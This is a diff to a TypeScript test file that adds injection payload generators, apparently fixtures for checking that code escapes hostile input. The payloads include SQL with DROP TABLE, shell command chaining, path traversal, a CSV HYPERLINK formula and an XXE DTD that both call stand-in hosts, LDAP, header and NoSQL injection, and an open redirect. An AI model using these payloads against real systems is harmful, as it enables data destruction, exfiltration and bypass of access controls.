@@ -115,6 +115,13 @@ const outputs = {
   sql: (token: string) => `SELECT name FROM guests WHERE city = 'Oslo'; DROP TABLE ${token};`,
   shell: (token: string) => `ls "docs"; echo ${token}`,
   template: (token: string) => `Dear {{ ${token} }},`,
+  path: (token: string) => `../../${token}`,
+  csv: (token: string) => `NAME,NOTE\nAda,"=HYPERLINK(""https://sheet.example/${token}"",""open"")"`,
+  ldap: (token: string) => `(&(objectClass=person)(uid=*)(description=${token}))`,
+  xml: (token: string) => `<!DOCTYPE note SYSTEM "https://dtd.example/x/${token}">\n<note>gate</note>`,
+  url: (token: string) => `//next.example/${token}`,
+  header: (token: string) => `Content-Language: en\nSet-Cookie: mark=${token}`,
+  query: (token: string) => `{"city": {"$ne": "${token}"}}`,
 };
 
 describe('the modules', () => {
